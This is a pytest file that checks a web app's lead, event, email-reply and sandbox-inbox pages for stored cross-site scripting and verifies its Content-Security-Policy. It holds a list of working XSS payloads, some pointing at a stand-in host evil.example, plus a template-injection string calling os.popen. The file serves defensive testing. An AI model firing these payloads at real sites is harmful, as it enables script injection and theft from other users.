"""Stored XSS: a corpus of payloads in every place that outsiders can fill, and every page that shows what they said."""

from html.parser import HTMLParser

import pytest
from starlette.testclient import TestClient

from sequencer.core.lead import Lead
from sequencer.sandbox import app as sandbox
from sequencer.services import ingest
from sequencer.web import pages
from sequencer.web.gate import POLICY
from sequencer.web.webhooks import inbound_url
from tests.services.webhooks import event, post, reply_form
from tests.web.conftest import ADDRESS, BEARER, KEY, WELCOME, Site
from tests.workspaces import WORKSPACE, files

MARK = "xss7"
PAYLOADS = (
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror=alert("{MARK}")>',
    f"'><svg/onload=alert('{MARK}')>",
    f'" autofocus onfocus="alert(`{MARK}`)" x="',
    f"' onmouseover='alert(1)' {MARK}='",
    f"javascript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f"</title></textarea></style></script><script>alert('{MARK}')</script>",
    f"<iframe srcdoc=\"<script>parent.alert('{MARK}')</script>\"></iframe>",
    f"<math><mi//xlink:href=\"data:x,<script>alert('{MARK}')</script>\">",
    f"<base href=//evil.example/{MARK}><form action=//evil.example><button>{MARK}",
    f"<style>@import '//evil.example/{MARK}'</style><link rel=stylesheet href=//evil.example>",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"{{{{ cycler.__init__.__globals__.os.popen('{MARK}') }}}}{{% raw %}}<b>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>\u2028alert(1)//\u202e",
    f"<!--<img src='--><img src=x onerror=alert(`{MARK}`)//'>",
    f"<![CDATA[<script>alert('{MARK}')</script>]]>",
    f"<meta http-equiv=refresh content='0;url=javascript:alert(`{MARK}`)'>",
)
TAGS = frozenset(
    """
    html head meta title link body header a img span nav form input button main section div h1 h2 h3 p ul ol li b strong
    code details summary dl dt dd svg rect aside time label fieldset legend br
    """.split()
)
"""What our own pages are made of, without what mail and people might bring in."""


class Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, text: str, tags: frozenset[str] = TAGS) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = tags
        self.problems: list[str] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags or (tag == "meta" and any(name == "http-equiv" for name, _ in attrs)):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            address = name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "background", "data")
            if name.startswith("on") or name == "style" or MARK in name or (address and not _ours(value or "")):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.words += data


def _ours(address: str) -> bool:
    return address == "" or (address[0] in "/?#" and not address.startswith("//"))


def fill(site: Site, payload: str) -> Lead:
    """Says the payload wherever somebody outside can say something."""
    world, http = site.world, site.http
    fields = {name: payload for name in ("first_name", "last_name", "title", "country", "campaign", "company", "hobby")}
    lead = {"email": "kim@harbor.example", **fields, payload[:60]: payload, "enroll": "welcome"}
    assert http.post("/api/leads", json=lead, headers=BEARER).status_code in (200, 201)
    world.work()
    for kind, data in (
        ("submitted", {"form": payload}),
        ("visited", {"page": f"/{''.join(filter(str.isprintable, payload))}", "url": payload}),
        ("price_asked", {"text": payload}),
        ("said", {"reason": payload, payload: payload}),
        ("topic_asked", {"topic": payload}),
    ):
        said = {"email": "kim@harbor.example", "event": kind, "data": data, "key": payload}
        assert http.post("/api/events", json=said, headers=BEARER).status_code == 200
    names = {"url": payload, "useragent": payload, "reason": payload, "response": payload, "ip": payload}
    post(
        world, *(event(world, kind, sg_event_id=f"{kind}{payload}", **names) for kind in ("click", "open", "deferred"))
    )
    post(world, event(world, "dropped", sg_event_id=f"dropped{payload}", **names))
    body, content_type = reply_form(world, payload)
    body = body.replace(b"Re: One", payload.encode()).replace(b"Kim <", payload.encode() + b" <")
    answer = http.post(
        inbound_url(world.context).removeprefix(ADDRESS), content=body, headers={"Content-Type": content_type}
    )
    assert answer.status_code == 204
    for urgent in (True, False):
        ingest.process(world.context, urgent)
    return world.lead("kim@harbor.example")


def visit(site: Site, payload: str) -> None:
    """Every page of ours, after the payload was said everywhere. Raises AssertionError for what a browser would run."""
    lead = fill(site, payload)
    site.log_in()
    shown = ""
    for path in (
        "/dashboard",
        "/dashboard/leads",
        f"/dashboard/leads/{lead.id}",
        f"/dashboard/companies/{lead.company_id}",
        f"/u/{site.token()}",
        f"/preferences/{site.token()}",
        "/nothing",
        "/dashboard/leads/999",
    ):
        shown += check(site, path)
    shown += check(site, "/dashboard/leads", q=payload)
    check(site, "/login", next=payload)
    site.http.post("/logout", data={"csrf": "wrong"})
    # It was there to be run: on the lead's page it stands as text, in names, in notes and in what was said.
    assert shown.count(payload) >= 8, payload


def check(site: Site, path: str, **query: str) -> str:
    answer = site.http.get(path, params=query)
    assert answer.headers["content-security-policy"] == POLICY
    page = Page(answer.text)
    assert page.problems == [], (path, page.problems)
    return page.words


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_outsiders_say_is_shown_and_never_run(site: Site, payload: str) -> None:
    visit(site, payload)


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[1]])
def test_without_escaping_it_would_run(site: Site, monkeypatch: pytest.MonkeyPatch, payload: str) -> None:
    environment = pages._templates.env
    monkeypatch.setattr(environment, "autoescape", False)
    monkeypatch.setattr(environment, "cache", {})
    with pytest.raises(AssertionError):
        visit(site, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workspace_with_hostile_names_shows_them_to_recipients_as_text(site: Site, payload: str) -> None:
    """Marketers may paste from anywhere: the pages that strangers see hold brand and topics."""
    site.world.lead()
    site.world.enter("welcome", site.world.lead())
    site.world.work()
    name = "'" + payload.replace("'", "''").replace("\u2028", "").replace("\u202e", "") + "'"
    workspace = WORKSPACE.replace("name: Acme", f"name: {name}")
    workspace = workspace.replace(
        "guides: {label: Guides, default: on}", f"guides:\n    label: {name}\n    default: on"
    )
    assert workspace.count(name) == 2
    site.world.deploy(files(welcome=WELCOME) | {"sequences/workspace.yaml": workspace})
    for path in (f"/u/{site.token()}", f"/preferences/{site.token()}"):
        assert MARK in check(site, path)


# --- the policy


EVERYTHING = ("script-src", "object-src", "frame-src", "connect-src", "worker-src", "manifest-src", "media-src")


def test_the_policy_lets_nothing_run_and_nothing_in() -> None:
    rules = dict(rule.strip().split(" ", 1) for rule in POLICY.split(";"))
    assert rules["default-src"] == rules["base-uri"] == rules["frame-ancestors"] == "'none'"
    assert rules["form-action"] == rules["style-src"] == "'self'"
    assert not set(rules) & set(EVERYTHING)
    assert "unsafe" not in POLICY and "*" not in POLICY and "http" not in POLICY


def test_every_answer_of_every_route_has_the_policy(site: Site) -> None:
    """Also what is refused, not found, too large, and broken."""
    with TestClient(site.app, base_url=ADDRESS, raise_server_exceptions=False, follow_redirects=False) as http:
        walked = 0
        with site.world.context.engine.begin() as conn:
            conn.exec_driver_sql("ALTER TABLE deployment RENAME TO away")
        for headers in ({}, BEARER):
            for path in {getattr(route, "path", "/") for route in site.app.routes} | {"/nothing", "/static/none"}:
                for method in ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "x"):
                    answer = http.request(method, path.replace("{", "").replace("}", ""), headers=headers)
                    assert answer.headers["content-security-policy"] == POLICY, (method, path)
                    walked += 1
    assert walked > 300


# --- the sandbox's inbox

TABS = ("html", "text", "headers")
SANDBOX_TAGS = TAGS | set("article aside iframe pre table tr th td textarea q h4".split())


def test_the_sandbox_keeps_a_mails_html_in_a_frame_where_nothing_runs(site: Site) -> None:
    """A frame of its own origin, by its attribute and by its policy, however it is opened."""
    site.world.lead()
    application = sandbox.build(
        site.world.context.engine,
        webhook_url=f"{ADDRESS}/webhooks/sendgrid/events",
        inbound_url=inbound_url(site.world.context),
        private_key=KEY,
    )
    hostile = "".join(f"<p>{payload}</p>" for payload in PAYLOADS)
    mail = {
        "personalizations": [{"to": [{"email": "kim@harbor.example", "name": PAYLOADS[0]}]}],
        "from": {"email": "mara@mail.acme.example", "name": PAYLOADS[1]},
        "subject": PAYLOADS[2],
        "content": [{"type": "text/plain", "value": hostile}, {"type": "text/html", "value": hostile}],
        "categories": [PAYLOADS[3]],
        "custom_args": {"x": PAYLOADS[4]},
    }
    with TestClient(application, base_url="http://127.0.0.1") as http:
        sent = http.post("/sandbox/v3/mail/send", json=mail, headers={"Authorization": "Bearer SG.a.b"})
        assert sent.status_code == 202, sent.text
        number = http.get("/sandbox/messages.json").json()[0]["id"]
        for path in ("/sandbox/", "/sandbox/?q=<script>", *(f"/sandbox/messages/{number}?tab={t}" for t in TABS)):
            answer = http.get(path)
            assert Page(answer.text, SANDBOX_TAGS).problems == [], path
            policy = answer.headers["content-security-policy"]
            assert "default-src 'none'" in policy and "script-src" not in policy and "unsafe" not in policy
        page = http.get(f"/sandbox/messages/{number}").text
        assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in page
        frame = http.get(f"/sandbox/messages/{number}/frame")
        policy = frame.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "form-action 'none'" in policy and "script-src" not in policy
        assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy
